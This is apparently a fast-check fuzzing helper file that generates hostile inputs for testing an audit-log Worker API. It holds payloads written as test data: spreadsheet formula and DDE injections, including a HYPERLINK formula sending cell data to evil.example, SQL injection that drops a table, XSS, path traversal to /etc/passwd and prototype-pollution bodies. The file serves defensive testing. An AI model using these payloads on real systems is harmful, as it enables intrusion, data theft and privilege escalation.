// fast-check arbitraries for hostile input: strings, JSON values, bodies, changes (valid and
// one mutation away from valid), query strings, cursors, headers and paths; and the
// contract's verdict on a JSON body (depth, text that cannot be stored), which the
// properties and the edge-case tests compare the Worker's answers with. Shared by
// the hostile-*.test.ts properties and input-edge-cases.test.ts; nothing here talks to the Worker.
//
// Every input that once broke the Worker is generated: JSON nested up to 100,000 levels,
// lone UTF-16 surrogates in strings, keys, paths and queries, "__proto__" keys, and
// `to=9999-12-31`. Changes the generators call valid are storable as sent (well-formed
// text, no "__proto__" key); the mutations inject what is not.
import fc from 'fast-check';
import { ACTIONS, OBJECT_TYPES } from '../../shared/vocabulary';

// ---------------------------------------------------------------------------------------
// Strings

export const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1\n=2',
  '＝1+1',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
];
export const NAN_ISH = [
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '0',
  '1e999',
  '-1e999',
  '0x1F',
  '1_000',
  ' 5 ',
  '',
  ' ',
  'null',
  'undefined',
  'true',
  'false',
  '[object Object]',
  '9007199254740993',
  '1e21',
  '.5',
  '5.',
  '+5',
  '٣',
];
export const PROTO_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  '__lookupGetter__',
  'isPrototypeOf',
];
const INJECTIONS = [
  "'; DROP TABLE audit_events; --",
  '" OR 1=1 --',
  '%',
  '_',
  '\\',
  '%_\\%',
  '<script>alert(1)</script>',
  '${7*7}',
  '{{7*7}}',
  '../../etc/passwd',
  'a/b',
  '%2F',
  '%00',
  '\\u0000',
  'json_each',
  '->>0',
];
const ODD_UNICODE = [
  '\u0000',
  'a\u0000b',
  '\u0001\u001f\u007f',
  '\u202e\u202dRTL',
  '\u200b\u200c\u200d',
  '\ufeff',
  '\u2028\u2029',
  '\u00a0',
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈',
  '\ud83d\ude00',
  '𝕏𝔂𝔃',
  'Zoë "quoted" ✓',
  'e\u0301',
  '\uffff\ufffe',
  '\u{10ffff}',
  'İı',
  'ß',
  '中文',
];
/** Text with unpaired UTF-16 surrogates: valid JSON escapes, but not Unicode text (the Worker refuses them, 422). */
export const LONE_SURROGATES = ['\ud800', '\udfff', 'a\ud800b', 'x\udc00', '\ude00\ud83d'];

/** A string a hostile client might send, of any length up to a bit beyond the limits. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...FORMULAS, ...NAN_ISH, ...PROTO_KEYS, ...INJECTIONS, ...ODD_UNICODE), weight: 6 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 4 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }), weight: 2 },
  { arbitrary: fc.string({ maxLength: 30 }), weight: 2 },
  {
    arbitrary: fc
      .tuple(
        fc.constantFrom(199, 200, 201, 500, 501, 2000, 65_535, 65_536, 65_537, 100_000),
        fc.constantFrom('x', 'é', '中', '😀', ' ', '=', '\u0000'),
      )
      .map(([n, c]) => c.repeat(Math.max(1, Math.floor(n / c.length)))),
    weight: 1,
  },
  { arbitrary: fc.constantFrom(...LONE_SURROGATES), weight: 2 },
);

/** A short hostile string (for ids, keys and query values). */
export const shortHostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...FORMULAS, ...NAN_ISH, ...PROTO_KEYS, ...INJECTIONS, ...ODD_UNICODE), weight: 5 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 20 }), weight: 3 },
  { arbitrary: fc.string({ maxLength: 12 }), weight: 2 },
  { arbitrary: fc.constantFrom('x'.repeat(200), 'x'.repeat(201), 'y'.repeat(2001)), weight: 1 },
  { arbitrary: fc.constantFrom(...LONE_SURROGATES), weight: 1 },
);

/** Any key, weighted towards prototype-polluting ones. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...PROTO_KEYS), weight: 3 },
  { arbitrary: shortHostileString, weight: 3 },
  {
    arbitrary: fc.constantFrom(
      'changeId',
      'objectType',
      'objectId',
      'action',
      'elements',
      'before',
      'after',
      'changes',
      'name',
      'scopes',
      'id',
      'polluted',
    ),
    weight: 2,
  },
);

/** Text the Worker stores as sent: hostile, but well-formed Unicode. */
export const storableString: fc.Arbitrary<string> = hostileString.filter((s) => s.isWellFormed());
/** A key the Worker stores as sent: well-formed, and not "__proto__" (the other prototype-ish names are plain data). */
export const storableKey: fc.Arbitrary<string> = hostileKey.filter((k) => k !== '__proto__' && k.isWellFormed());

// ---------------------------------------------------------------------------------------
// Numbers and JSON values

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -0, 1, -1, 0.5, 1e21, -1e21, 1e308, -1e308, 5e-324, 2 ** 53, 2 ** 53 + 2, -(2 ** 53), Number.MAX_SAFE_INTEGER, 4711),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Objects built with Object.fromEntries, so "__proto__" becomes an own key, as JSON.parse makes it. */
const objectOf = (value: fc.Arbitrary<unknown>, maxKeys = 5, key = hostileKey) =>
  fc.array(fc.tuple(key, value), { maxLength: maxKeys }).map((entries) => Object.fromEntries(entries));

/** Random JSON (depth-bounded) made of `string`s, `key`s and hostile numbers. */
const jsonOf = (string: fc.Arbitrary<string>, key: fc.Arbitrary<string>): fc.Arbitrary<unknown> =>
  fc.letrec((tie) => ({
    value: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      { arbitrary: fc.constant(null), weight: 1 },
      { arbitrary: fc.boolean(), weight: 1 },
      { arbitrary: hostileNumber, weight: 2 },
      { arbitrary: string, weight: 4 },
      { arbitrary: fc.array(tie('value'), { maxLength: 5 }), weight: 2 },
      { arbitrary: objectOf(tie('value'), 5, key), weight: 2 },
    ),
  })).value;

/** Random JSON with hostile strings (lone surrogates too), keys ("__proto__" too) and numbers. */
export const hostileJson: fc.Arbitrary<unknown> = jsonOf(hostileString, hostileKey);
/** Random JSON the Worker stores as sent (storableString, storableKey). */
export const storableJson: fc.Arbitrary<unknown> = jsonOf(storableString, storableKey);

/** How deep generated values nest. What counts is the body's total depth (jsonDepth): a
 *  value sits 2 to 5 levels down in a change or a batch, so these straddle the limit of 64
 *  in every place, and go far beyond it. */
export const NESTING_DEPTHS = [1, 2, 58, 59, 60, 61, 62, 63, 64, 65, 100, 1_000, 10_000, 100_000];

/** JSON text nested `depth` levels deep, as arrays, objects or both. */
export function deepJsonText(depth: number, kind: 'array' | 'object' | 'mixed', leaf = '"deep"'): string {
  if (kind === 'array') return '['.repeat(depth) + leaf + ']'.repeat(depth);
  if (kind === 'object') return '{"a":'.repeat(depth) + leaf + '}'.repeat(depth);
  let open = '';
  let close = '';
  for (let i = 0; i < depth; i++) {
    if (i % 2) {
      open += '[';
      close = ']' + close;
    } else {
      open += '{"__proto__":';
      close = '}' + close;
    }
  }
  return open + leaf + close;
}

/** A placeholder for a deeply nested value inside a generated body: `serialize` splices the
 *  nested JSON text in, so neither the generator nor JSON.stringify has to recurse through it. */
export const deepMarker = (depth: number, kind: 'array' | 'object' | 'mixed') => `\u0002deep:${depth}:${kind}\u0002`;

/** JSON text of a generated body, with deep placeholders expanded. */
export function serialize(value: unknown): string {
  return (JSON.stringify(value) ?? 'null').replace(
    /"\\u0002deep:(\d+):(\w+)\\u0002"/g,
    (_, depth: string, kind: 'array' | 'object' | 'mixed') => deepJsonText(Number(depth), kind),
  );
}

export const deepJson = fc
  .tuple(fc.constantFrom(...NESTING_DEPTHS), fc.constantFrom('array' as const, 'object' as const, 'mixed' as const))
  .map(([depth, kind]) => ({ depth, kind, text: deepJsonText(depth, kind) }));

// ---------------------------------------------------------------------------------------
// Changes

/** Characters an Identifier may hold (no whitespace, no control characters). */
const ID_CHARS = [...'abcxyzABCXYZ0123456789-_.:=+@~!$%&*()[]{}|;,<>?/\\\'"`^#', 'é', 'ß', '中', '😀', '\u200b', '\u202e', '𝕏'];
export const validIdentifier = fc.string({ unit: fc.constantFrom(...ID_CHARS), minLength: 1, maxLength: 24 });
const validIdLike: fc.Arbitrary<string | number> = fc.oneof(
  validIdentifier,
  fc.nat({ max: 2 ** 40 }),
  fc.constantFrom('=1+1', '@x', '-1', '4711'),
);

/** Storable text that stays the same through zod's .trim() and is 1..max characters long. */
const validText = (max: number) =>
  storableString.map((s) => {
    const body = s.length > max - 2 ? s.slice(0, max - 2) : s;
    // Never end the body on half of a surrogate pair.
    const safe = /[\uD800-\uDBFF]$/.test(body) ? body.slice(0, -1) : body;
    return `N${safe}N`;
  });

/** A value of an element (ElementValue in worker/schemas/changes.ts), valid and storable. */
const validElementValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: storableString.filter((s) => s.length <= 65_536), weight: 5 },
  { arbitrary: hostileNumber, weight: 1 },
  { arbitrary: fc.boolean(), weight: 1 },
  { arbitrary: fc.constant(null), weight: 1 },
  { arbitrary: fc.array(storableJson, { maxLength: 4 }), weight: 1 },
  { arbitrary: objectOf(storableJson, 5, storableKey), weight: 1 },
);

const validElement = fc.record(
  {
    element: validText(200),
    oldValue: validElementValue,
    newValue: validElementValue,
    redacted: fc.boolean(),
  },
  { requiredKeys: ['element'] },
);

/** Inside the accounts' default 13-month retention (a write older than it is refused), so
 *  also after their auditEnabledAt (2020-01-01). */
const WITHIN_RETENTION = new Date(Date.now() - 365 * 86_400_000);
/** A valid occurredAt: inside retention and after auditEnabledAt, not in the future. */
const validOccurredAt = fc
  .tuple(
    fc.date({ min: WITHIN_RETENTION, max: new Date(Date.now() - 3_600_000), noInvalidDate: true }),
    fc.constantFrom('Z', '+00:00', '+05:30', '-08:00', '+14:00', '-12:00'),
    fc.boolean(),
  )
  .map(([date, zone, millis]) => {
    // Render the same instant in `zone`.
    const sign = zone === 'Z' ? 1 : zone[0] === '-' ? -1 : 1;
    const minutes = zone === 'Z' ? 0 : sign * (Number(zone.slice(1, 3)) * 60 + Number(zone.slice(4, 6)));
    const local = new Date(date.getTime() + minutes * 60_000).toISOString().slice(0, millis ? 23 : 19);
    return local + zone;
  });

/** A snapshot of an object: some fields the catalog knows, some it does not, hostile (storable) keys. */
const snapshot = fc
  .tuple(
    fc.record(
      {
        loginName: validText(50),
        fullName: validText(50),
        name: validText(50),
        passwordSh: fc.string({ minLength: 1 }),
        email: validText(50),
        maxChats: fc.integer({ min: 0, max: 100 }),
        isEnabled: fc.boolean(),
        skillIds: fc.array(fc.oneof(fc.nat(), validIdentifier), { maxLength: 5 }),
        memberOf: fc.record({ agentGroupId: fc.nat(), assignmentDate: fc.constant('2026-01-01 10:00:00') }),
        profileIds: fc.array(fc.nat(), { maxLength: 3 }),
      },
      { requiredKeys: [] },
    ),
    objectOf(storableJson, 4, storableKey),
  )
  .map(([known, extra]) => Object.fromEntries([...Object.entries(known), ...Object.entries(extra)]));

export interface ChangeBody {
  changeId: string;
  [key: string]: unknown;
}

/** A change the Worker accepts and stores as sent, with hostile content wherever content may
 *  be anything (but well-formed text and no "__proto__" key: see the injecting mutations). */
export const validChange = (prefix: string): fc.Arbitrary<ChangeBody> =>
  fc
    .record(
      {
        changeId: validIdentifier.map((id) => `${prefix}${id}`.slice(0, 200)),
        objectType: fc.constantFrom(...OBJECT_TYPES),
        objectId: validIdLike,
        objectName: validText(500),
        action: fc.constantFrom(...ACTIONS),
        originator: fc.record({ id: validIdLike, name: validText(200) }),
        occurredAt: validOccurredAt,
        shape: fc.oneof(
          { arbitrary: fc.array(validElement, { minLength: 1, maxLength: 5 }).map((elements) => ({ elements })), weight: 3 },
          { arbitrary: fc.tuple(snapshot, snapshot).map(([before, after]) => ({ before, after })), weight: 1 },
        ),
      },
      { requiredKeys: ['changeId', 'objectType', 'objectId', 'action', 'originator', 'shape'] },
    )
    .map(({ shape, ...change }) => {
      const body: ChangeBody = { ...change, ...shape } as ChangeBody;
      // before/after must fit the action: an add has no before, a delete no after.
      if ('before' in body && body.action === 'add') delete body.before;
      if ('after' in body && body.action === 'delete') delete body.after;
      return body;
    });

export interface Mutation {
  /** What was done, for the counterexample. */
  what: string;
  /** 'invalid': the Worker must refuse the result (422); 'unknown': it may or may not (the
   *  tests' model still knows the exact answer to a body too deep or with unstorable text). */
  verdict: 'invalid' | 'unknown';
  apply: (change: ChangeBody) => ChangeBody;
}

const REQUIRED = ['changeId', 'objectType', 'objectId', 'action', 'originator'] as const;
const FIELDS = [
  'changeId',
  'objectType',
  'objectId',
  'objectName',
  'action',
  'originator',
  'occurredAt',
  'elements',
  'before',
  'after',
] as const;

const set = (key: string, value: unknown) => (c: ChangeBody) =>
  Object.fromEntries([...Object.entries(c).filter(([k]) => k !== key), [key, value]]) as ChangeBody;
const without = (key: string) => (c: ChangeBody) => Object.fromEntries(Object.entries(c).filter(([k]) => k !== key)) as ChangeBody;

/** Places in a JSON value, in document order: string values, object keys, objects. */
type Site = 'string' | 'key' | 'object';
function countSites(value: unknown, site: Site): number {
  if (typeof value === 'string') return site === 'string' ? 1 : 0;
  if (Array.isArray(value)) return value.reduce((n: number, item) => n + countSites(item, site), 0);
  if (value === null || typeof value !== 'object') return 0;
  const entries = Object.entries(value);
  return (
    (site === 'object' ? 1 : 0) + (site === 'key' ? entries.length : 0) + entries.reduce((n, [, item]) => n + countSites(item, site), 0)
  );
}
/** A copy of `value` with the `n`-th site (modulo their number) edited; objects are rebuilt
 *  with Object.fromEntries, so an added "__proto__" is an own key, as JSON.parse makes it. */
function editSite(
  value: unknown,
  site: Site,
  n: number,
  edit: { text?: (s: string) => string; entries?: (e: [string, unknown][]) => [string, unknown][] },
): unknown {
  let i = 0;
  const target = n % Math.max(1, countSites(value, site));
  const walk = (v: unknown): unknown => {
    if (typeof v === 'string') return site === 'string' && i++ === target ? edit.text!(v) : v;
    if (Array.isArray(v)) return v.map(walk);
    if (v === null || typeof v !== 'object') return v;
    const hit = site === 'object' && i++ === target;
    const entries = Object.entries(v).map(([k, item]): [string, unknown] => [
      site === 'key' && i++ === target ? edit.text!(k) : k,
      walk(item),
    ]);
    return Object.fromEntries(hit ? edit.entries!(entries) : entries);
  };
  return walk(value);
}
/** `text` with `insert` put between two of its code points, so that no pair is split. */
const insertAt = (text: string, at: number, insert: string) => {
  const points = [...text];
  const k = at % (points.length + 1);
  return [...points.slice(0, k), insert, ...points.slice(k)].join('');
};

/** Mutations that put text the Worker cannot store as sent anywhere in a valid change. */
const unstorableMutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.tuple(fc.nat(), fc.nat(), fc.constantFrom(...LONE_SURROGATES)).map(([n, at, lone]): Mutation => ({
    what: `a lone surrogate ${JSON.stringify(lone)} in string #${n}`,
    verdict: 'invalid',
    apply: (c) => editSite(c, 'string', n, { text: (s) => insertAt(s, at, lone) }) as ChangeBody,
  })),
  fc.tuple(fc.nat(), fc.nat(), fc.constantFrom(...LONE_SURROGATES)).map(([n, at, lone]): Mutation => ({
    what: `a lone surrogate ${JSON.stringify(lone)} in key #${n}`,
    verdict: 'invalid',
    apply: (c) => editSite(c, 'key', n, { text: (k) => insertAt(k, at, lone) }) as ChangeBody,
  })),
  fc
    .tuple(fc.nat(), fc.boolean(), fc.constantFrom<unknown>({ polluted: 'yes' }, { isAdmin: true }, 'x', null, [1]))
    .map(([n, first, value]): Mutation => ({
      what: `a key "__proto__" in object #${n}`,
      verdict: 'invalid',
      apply: (c) =>
        editSite(c, 'object', n, {
          entries: (entries) => (first ? [['__proto__', value], ...entries] : [...entries, ['__proto__', value]]),
        }) as ChangeBody,
    })),
);

/** One mutation of a valid change: a field removed, replaced, added or broken. */
export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.constantFrom(...REQUIRED).map((key): Mutation => ({ what: `remove ${key}`, verdict: 'invalid', apply: without(key) })),
  fc
    .tuple(
      hostileKey.filter((k) => !(FIELDS as readonly string[]).includes(k)),
      hostileJson,
    )
    .map(([key, value]): Mutation => ({ what: `add unknown key ${JSON.stringify(key)}`, verdict: 'invalid', apply: set(key, value) })),
  fc.tuple(fc.constantFrom(...FIELDS), hostileJson).map(([key, value]): Mutation => ({
    what: `set ${key} to ${JSON.stringify(value)?.slice(0, 80)}`,
    verdict: 'unknown',
    apply: set(key, value),
  })),
  fc
    .tuple(fc.constantFrom('objectType', 'action'), shortHostileString)
    .filter(([, value]) => !(OBJECT_TYPES as readonly string[]).includes(value) && !(ACTIONS as readonly string[]).includes(value))
    .map(([key, value]): Mutation => ({ what: `${key} not in its enum`, verdict: 'invalid', apply: set(key, value) })),
  fc
    .constantFrom(
      ['changeId', ''],
      ['changeId', 'has space'],
      ['changeId', 'tab\there'],
      ['changeId', 'nul\u0000'],
      ['changeId', 'x'.repeat(201)],
      ['changeId', 42],
      ['objectId', -1],
      ['objectId', 1.5],
      ['objectId', ''],
      ['objectId', 'a b'],
      ['objectName', ''],
      ['objectName', '   '],
      ['objectName', 'x'.repeat(501)],
      ['elements', []],
      ['elements', {}],
      ['elements', [{ element: '' }]],
      ['elements', [{ element: '   ' }]],
      ['elements', [{ element: 'x'.repeat(201) }]],
      ['elements', [{ element: 'x', newValue: 'v'.repeat(65_537) }]],
      ['elements', [{ element: 'x', newValue: Array.from({ length: 10_001 }, () => 0) }]],
      ['elements', Array.from({ length: 501 }, (_, i) => ({ element: `e${i}` }))],
      ['elements', [{ element: 'x', extra: 1 }]],
      ['elements', [{ element: 'x', redacted: 'yes' }]],
      ['originator', { id: '1' }],
      ['originator', { id: '1', name: 'n', __proto__x: 1 }],
      ['originator', { id: 'a b', name: 'n' }],
      ['originator', 'Admin Amy'],
      ['occurredAt', '2019-12-31T23:59:59Z'],
      ['occurredAt', '1970-01-01T00:00:00Z'],
      ['occurredAt', new Date(Date.now() - 14 * 31 * 86_400_000).toISOString()], // past the 13-month retention
      ['occurredAt', new Date(Date.now() + 86_400_000).toISOString()],
      ['occurredAt', '9999-12-31T23:59:59Z'],
      ['occurredAt', '2026-02-30T00:00:00Z'],
      ['occurredAt', '2026-01-01T25:00:00Z'],
      ['occurredAt', '2026-01-01'],
      ['occurredAt', '2026-01-01T00:00:00'],
      ['occurredAt', 'yesterday'],
      ['occurredAt', 1_767_225_600_000],
    )
    .map(([key, value]): Mutation => ({
      what: `set ${key} to an invalid ${JSON.stringify(value).slice(0, 60)}`,
      verdict: 'invalid',
      apply: set(key as string, value),
    })),
  fc.constant<Mutation>({
    what: 'elements and snapshots together',
    verdict: 'invalid',
    apply: (c) => ({ ...c, elements: [{ element: 'x', newValue: 'y' }], before: { a: 1 }, after: { a: 2 } }),
  }),
  fc.constant<Mutation>({
    what: 'neither elements nor snapshots',
    verdict: 'invalid',
    apply: (c) => without('after')(without('before')(without('elements')(c))),
  }),
  fc.constant<Mutation>({
    what: 'add with a before snapshot',
    verdict: 'invalid',
    apply: (c) => ({ ...without('elements')(c), action: 'add', before: { a: 1 }, after: { a: 2 } }),
  }),
  fc.constant<Mutation>({
    what: 'delete with an after snapshot',
    verdict: 'invalid',
    apply: (c) => ({ ...without('elements')(c), action: 'delete', before: { a: 1 }, after: { a: 2 } }),
  }),
  fc.tuple(deepJson, fc.constantFrom('elements', 'after')).map(([deep, where]): Mutation => ({
    what: `a value nested ${deep.depth} levels deep (${deep.kind}) in ${where}`,
    verdict: 'unknown',
    apply: (c) =>
      where === 'elements'
        ? { ...without('before')(without('after')(c)), elements: [{ element: 'Deep', newValue: deepMarker(deep.depth, deep.kind) }] }
        : { ...without('elements')(c), action: 'edit', before: { a: 1 }, after: { deep: deepMarker(deep.depth, deep.kind) } },
  })),
  unstorableMutation,
  unstorableMutation,
);

// ---------------------------------------------------------------------------------------
// Bodies

/** A raw body: text or bytes, with how it was made. */
export interface RawBody {
  kind: string;
  body: string | Uint8Array;
}

const utf8 = new TextEncoder();

/** Bytes that are not UTF-8, alone or inside otherwise fine JSON. */
export const nonUtf8Body: fc.Arbitrary<RawBody> = fc.oneof(
  fc.uint8Array({ minLength: 1, maxLength: 64 }).map((bytes) => ({ kind: 'random bytes', body: bytes })),
  fc
    .tuple(
      fc.constantFrom([0xff], [0xfe, 0xff], [0xc0, 0x80], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0x80], [0xe2, 0x82]),
      fc.nat({ max: 20 }),
    )
    .map(([bad, at]) => {
      const text = utf8.encode(
        '{"changeId":"x","objectType":"user","objectId":"1","action":"edit","originator":{"id":"1","name":"A"},"elements":[{"element":"n","newValue":"v"}]}',
      );
      const pos = Math.min(text.length - 1, 40 + at);
      return {
        kind: `invalid UTF-8 ${bad.map((b) => b.toString(16)).join(' ')} inside JSON`,
        body: new Uint8Array([...text.slice(0, pos), ...bad, ...text.slice(pos)]),
      };
    }),
  fc.constant({ kind: 'UTF-16LE JSON', body: new Uint8Array([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]) }),
  fc.constant({ kind: 'NUL bytes', body: new Uint8Array([0x7b, 0x00, 0x7d]) }),
);

/** Text that is not quite JSON, or JSON of the wrong shape. */
export const oddJsonText: fc.Arbitrary<RawBody> = fc
  .constantFrom(
    '',
    ' ',
    '\n',
    'null',
    'true',
    '0',
    '-0',
    '1e999',
    '"text"',
    '[]',
    '{}',
    '{',
    '}',
    '[',
    '{"a":1}garbage',
    '{"a":1}{"b":2}',
    '\ufeff{}',
    '{"changes":null}',
    '{"changes":[]}',
    '{"changes":{}}',
    '{"changes":[null]}',
    '{"changes":"x"}',
    '{"changeId":"a","changeId":"b"}',
    '{"__proto__":{"polluted":"yes"}}',
    '{"constructor":{"prototype":{"polluted":"yes"}}}',
    '{"__proto__":{"polluted":"yes"},"changes":[{"__proto__":{"polluted":"yes"}}]}',
    '{"name":"x","scopes":["audit:read"],"__proto__":{"polluted":"yes"}}',
    '{"id":"x","name":"y","__proto__":{"isAdmin":true}}',
    "{'single':'quotes'}",
    '{"a":NaN}',
    '{"a":Infinity}',
    '{"a":undefined}',
    '{"a":0x10}',
    '{"a":1,}',
    '[1,2,]',
    '{"a":"\\ud800"}',
    '{"\\udc00":1}',
    '{"a":[{"b":"x\\udfffy"}]}',
    '{"a":{"__proto__":1}}',
    '[{"__proto__":[]}]',
    '{"a":"\\u0000"}',
    '{"a":"\\x41"}',
    '/* comment */ {}',
    '{"a":1} // comment',
  )
  .map((text) => ({ kind: 'odd JSON text', body: text }));

export const randomJsonBody: fc.Arbitrary<RawBody> = hostileJson.map((value) => ({
  kind: 'random JSON',
  body: JSON.stringify(value) ?? 'null',
}));

export const deepBody: fc.Arbitrary<RawBody> = deepJson.map(({ depth, kind, text }) => ({
  kind: `nested ${depth} deep (${kind})`,
  body: text,
}));

// ---------------------------------------------------------------------------------------
// Query strings, cursors, headers, paths

/** encodeURIComponent, except that a lone surrogate (which encodeURIComponent refuses with
 *  "URIError: URI malformed") is sent as the bytes a careless client would send for it: its
 *  three-byte UTF-8 form, "\ud800" → %ED%A0%80, which is not UTF-8. */
export function encodeComponent(text: string): string {
  let out = '';
  for (const point of text) {
    const unit = point.charCodeAt(0);
    if (point.length === 1 && unit >= 0xd800 && unit <= 0xdfff) {
      out += [0xe0 | (unit >> 12), 0x80 | ((unit >> 6) & 0x3f), 0x80 | (unit & 0x3f)]
        .map((b) => `%${b.toString(16).toUpperCase()}`)
        .join('');
    } else out += encodeURIComponent(point);
  }
  return out;
}

/** Encodes a query value, sometimes leaving it raw or half-encoded. */
export const queryEncoding = fc.constantFrom('encode', 'raw', 'plus') as fc.Arbitrary<'encode' | 'raw' | 'plus'>;

export function encodeQueryPart(text: string, how: 'encode' | 'raw' | 'plus'): string {
  if (how === 'raw') return text.replace(/[#\s]/g, (c) => encodeURIComponent(c));
  if (how === 'plus') return encodeComponent(text).replaceAll('%20', '+');
  return encodeComponent(text);
}

/** Hostile values for a query parameter that the routes know. */
export const hostileQueryValue: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: shortHostileString, weight: 4 },
  {
    arbitrary: fc.constantFrom(...NAN_ISH, '1', '50', '500', '501', '0', '-1', '1e2', '0x10', '2.5', '1e308', '9007199254740993'),
    weight: 3,
  },
  {
    arbitrary: fc.constantFrom(
      '2026-11-26',
      '2026-11-26T09:15:00Z',
      '2026-02-29',
      '2024-02-29',
      '2026-13-01',
      '0000-01-01',
      '0001-01-01',
      '1969-12-31',
      '1969-12-31T23:59:59Z',
      '1970-01-01',
      '1970-01-01T00:00:00Z',
      '1970-01-01T00:00:00+14:00',
      '2026-01-01T00:00:00+23:59',
      '2026-01-01T00:00:00-23:59',
      '2026-01-01T24:00:00Z',
      '2026-01-01T23:59:60Z',
      '9999-12-30',
      '9999-12-31T23:59:59.999Z',
      '9999-12-31T23:59:59-12:00',
      '9999-12-31',
      'user',
      'user,skill',
      'user,,,',
      ',',
      'user,nope',
      'edit,add,delete,edit',
      'xlsx',
      'csv',
      'ndjson',
      'pdf',
      'UTC',
      'Europe/Berlin',
      'America/Argentina/ComodRivadavia',
      'Etc/GMT+14',
      '+05:00',
      'list',
      'history',
      'export',
      'verify',
    ),
    weight: 3,
  },
);

/** Cursor-shaped garbage: right alphabet, wrong content. */
export const randomCursor: fc.Arbitrary<string> = fc.oneof(
  fc
    .tuple(fc.base64String({ maxLength: 40 }), fc.base64String({ maxLength: 60 }))
    .map(([a, b]) => `${a}.${b}`.replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')),
  fc.constantFrom('.', 'a.', '.b', 'a.b', '..', 'e30.', 'eyJvIjowLCJzIjowfQ.AAAA', 'eyJpIjoxfQ.x', 'null', '', '%', 'A'.repeat(2001)),
  shortHostileString,
);

/** How a real cursor is damaged. */
export type CursorDamage =
  { kind: 'truncate'; at: number } | { kind: 'flip'; at: number; bit: number } | { kind: 'swap-halves' } | { kind: 'append'; text: string };
export const cursorDamage: fc.Arbitrary<CursorDamage> = fc.oneof(
  fc.nat({ max: 200 }).map((at) => ({ kind: 'truncate' as const, at })),
  fc.tuple(fc.nat({ max: 200 }), fc.nat({ max: 5 })).map(([at, bit]) => ({ kind: 'flip' as const, at, bit })),
  fc.constant({ kind: 'swap-halves' as const }),
  fc.constantFrom('A', '.', '=', '%3D', '.x').map((text) => ({ kind: 'append' as const, text })),
);

const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
export function damageCursor(cursor: string, damage: CursorDamage): string {
  switch (damage.kind) {
    case 'truncate':
      return cursor.slice(0, damage.at % Math.max(1, cursor.length));
    case 'flip': {
      const at = damage.at % cursor.length;
      const index = B64URL.indexOf(cursor[at]!);
      if (index < 0) return cursor.slice(0, at) + 'A' + cursor.slice(at + 1);
      return cursor.slice(0, at) + B64URL[index ^ (1 << damage.bit)] + cursor.slice(at + 1);
    }
    case 'swap-halves': {
      const [a, b] = cursor.split('.');
      return `${b}.${a}`;
    }
    case 'append':
      return cursor + damage.text;
  }
}

/** The bytes a cursor stands for (payload, signature), as the Worker decodes them; null if it cannot. */
export function cursorBytes(cursor: string): string | null {
  const match = /^([A-Za-z0-9_-]+)\.([A-Za-z0-9_-]+)$/.exec(cursor);
  if (!match) return null;
  try {
    return match
      .slice(1)
      .map((part) => atob(part.replaceAll('-', '+').replaceAll('_', '/')))
      .join('.');
  } catch {
    return null;
  }
}

/** Who a request claims to be: resolved to a real header by the test (tokens are per run). */
export const AUTH_KINDS = [
  'none',
  'all-scopes',
  'writer',
  'reader',
  'exporter',
  'admin',
  'operator',
  'other-account',
  'revoked',
  'garbage',
  'empty',
  'bearer-only',
  'basic',
  'lowercase-bearer',
  'extra-spaces',
  'two-tokens',
  'token-without-scheme',
  'very-long',
  'operator-prefix',
  'token-with-suffix',
] as const;
export type AuthKind = (typeof AUTH_KINDS)[number];
export const authKind = fc.constantFrom(...AUTH_KINDS);

export const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'APPLICATION/JSON',
  'application/problem+json',
  'application/vnd.api+json',
  'application/json; charset=latin1',
  'application/jsonx',
  'application/x-json',
  'text/json',
  'text/plain',
  'multipart/form-data; boundary=x',
  'application/x-www-form-urlencoded',
  '',
  ';',
  'application/json, text/plain',
  '*/*',
] as const;
export const contentType = fc.option(fc.constantFrom(...CONTENT_TYPES), { nil: undefined });

/** A Content-Length header: absent, right (filled in by the request builder), or a lie. */
export const contentLength = fc.option(
  fc.constantFrom('right', '0', '1', '5', '-1', 'abc', '1e3', '99999999999999', '17000000', '1048577', ' 10 ', '0x10'),
  { nil: undefined },
);

/** Extra headers a client or proxy might add. */
export const extraHeaders = fc.array(
  fc.tuple(
    fc.constantFrom(
      'X-Forwarded-For',
      'Origin',
      'Accept',
      'Accept-Encoding',
      'X-HTTP-Method-Override',
      'Cookie',
      'If-None-Match',
      'Range',
      'X-Requested-With',
      'Access-Control-Request-Method',
      'Expect',
    ),
    fc.constantFrom(
      '*',
      '127.0.0.1',
      'https://evil.example',
      'application/xml',
      'gzip, br',
      'DELETE',
      'session=x',
      '"etag"',
      'bytes=0-10',
      'XMLHttpRequest',
      'POST',
      '100-continue',
      '',
    ),
  ),
  { maxLength: 3 },
);

export const HTTP_METHODS = ['GET', 'POST', 'DELETE', 'PUT', 'PATCH', 'HEAD', 'OPTIONS', 'get', 'Post', 'PROPFIND', 'FOO'] as const;

/** A path segment as a hostile client writes it in a URL. */
export const hostileSegment: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '..',
    '.',
    '%2e%2e',
    '%2E',
    '%2F',
    'a%2Fb',
    '%5C',
